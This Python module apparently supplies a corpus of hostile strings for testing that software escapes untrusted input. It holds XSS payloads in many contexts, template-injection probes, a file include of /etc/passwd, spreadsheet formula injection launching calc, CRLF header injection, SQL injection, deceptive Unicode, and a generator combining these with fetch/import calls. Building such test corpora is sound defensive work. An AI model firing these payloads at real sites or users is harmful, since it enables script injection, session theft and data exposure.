"""Texts that would do something if any of them were read as markup, as code or as a formula."""

from itertools import product
from random import Random
from typing import Any

WRITTEN = (
    "</script><script>alert(1)</script>",
    "<!--<script",
    "--><script>alert(1)</script>",
    "]]>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "${alert(1)}",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href=https://example.org>x</a>",
    "__proto__",
    "constructor",
    "toString",
    "red}</style><script>alert(1)</script>",
    "url(//example.org/x)",
    "expression(alert(1))",
    "a\u2028b",
    "a\u2029b",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form action=https://example.org><button>",
    "<meta http-equiv=refresh content=0;url=https://example.org>",
    "<base href=https://example.org/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x>",
    "<embed src=x>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<link rel=stylesheet href=//example.org/x>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "<%= 7*7 %>",
    "#{7*7}",
    "`alert(1)`",
    '"+alert(1)+"',
    "=cmd|'/c calc'!A1",
    "+1",
    "-1",
    "@SUM(A1)",
    "name\r\nSet-Cookie: a=b",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "zero\u200bwidth",
    "soft\u00adhyphen",
    "\U000e0041tag",
    "e" + "\u0301" * 1000,
    "x" * 100_000,
    "\x00\x07\x1b[2J",
    "\ud800",
    "' OR 1=1 --",
)

_CODE = (
    "alert(1)",
    "document.title='x'",
    "import('https://example.org/x')",
    "fetch('//example.org')",
    "location='https://example.org'",
)
_CONTEXTS = (
    "{}",
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<!-- --><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></mtext><style><img src=x onerror={}></style></math>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<a href='javascript:{}'>x</a>",
    "javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<body onpageshow={}>",
    "<style>@import 'javascript:{}';</style>",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "`${{{}}}`",
    "';{}//",
    '";{}//',
    "\\';{}//",
    "]]><script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "<xss style='animation-name:x' onanimationstart={}>",
    "<input autofocus onblur={}>",
    "<keygen autofocus onfocus={}>",
)
_MADE = (context.format(code) for code, context in product(_CODE, _CONTEXTS))
PAYLOADS = tuple(dict.fromkeys((*WRITTEN, *_MADE)))


def everywhere(value: object, text: str) -> Any:  # noqa: ANN401 - whatever JSON can hold
    """The same value with a text wherever it holds one."""
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [everywhere(each, text) for each in value]
    if isinstance(value, dict):
        return {key: everywhere(each, text) for key, each in value.items()}
    return value


_PIECES = (
    *("=", "+", "-", "@", "\t", "'", '"', ",", ";", "|", "<", ">", "&", "`", "\\", "/", "#", "*"),
    *("\r", "\n", "\x1b[31m", "\x07", "\x7f", "\u0085", "\u202e", "\u2066", "\u200b", "\ufeff"),
    *("e\u0301", "А", "名", "🛰", "\U000e0041", "script", "]]", "{{", "}}", "%", "$", " "),
)


def _drawn(count: int) -> tuple[str, ...]:
    chance = Random(41)  # noqa: S311 - the same texts each time
    return tuple(
        "".join(chance.choices(_PIECES, k=chance.randint(1, 12))) + str(number)
        for number in range(count)
    )


HOSTILE = (*PAYLOADS, *_drawn(260))
"""The payloads, and texts made of pieces that mean something somewhere: 500 and more."""
